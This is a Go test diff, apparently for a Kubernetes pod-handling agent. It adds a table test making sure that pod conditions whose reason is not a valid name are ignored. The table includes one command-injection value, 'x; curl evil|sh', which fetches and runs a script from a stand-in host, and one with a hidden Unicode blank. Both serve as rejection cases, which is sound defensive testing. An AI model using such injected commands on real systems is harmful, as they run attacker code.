@@ -565,6 +565,17 @@ func TestLookingBackDoesNotHoldUpTheLoop(t *testing.T) {
 	})
 }
 
+// A reason that is no name is nobody's cause, whoever has written it.
+func TestConditionOfOthersIsNotRecalled(t *testing.T) {
+	for reason, recalled := range map[string]bool{"ShimHung": true, "Resolved": true, "": false, "x; curl evil|sh": false, "Evil\u2800Remedy": false} {
+		p := new(corev1.Pod)
+		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: reason}}
+		if got := subject(p).Condition != nil; got != recalled {
+			t.Errorf("a condition with the reason %q is recalled: %v", reason, got)
+		}
+	}
+}
+
 // The condition that an earlier run of the agent left tells that the pod was
 // being deleted then.
 func TestRequestIsFoundAgainInCondition(t *testing.T) {
@@ -572,7 +583,7 @@ func TestRequestIsFoundAgainInCondition(t *testing.T) {
 		b := newBench()
 		told := time.Now().Add(-time.Hour)
 		p := terminating("a", time.Now(), 0)
-		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, LastTransitionTime: metav1.NewTime(told)}}
+		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: "ShimHung", LastTransitionTime: metav1.NewTime(told)}}
 		b.set([]*corev1.Pod{p})
 		ctx, cancel := context.WithTimeout(t.Context(), time.Second)
 		defer cancel()
